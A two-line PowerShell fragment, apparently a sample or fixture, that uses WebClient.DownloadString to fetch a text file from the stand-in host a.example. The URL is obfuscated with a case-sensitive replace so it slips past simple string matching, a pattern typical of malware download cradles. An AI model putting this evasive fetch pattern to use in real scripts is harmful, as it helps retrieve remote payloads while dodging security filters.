$wc = New-Object System.Net.WebClient
$wc.DownloadString(('htTtp://a.example/p/x.txt' -creplace 'T','' -replace '\s',''))
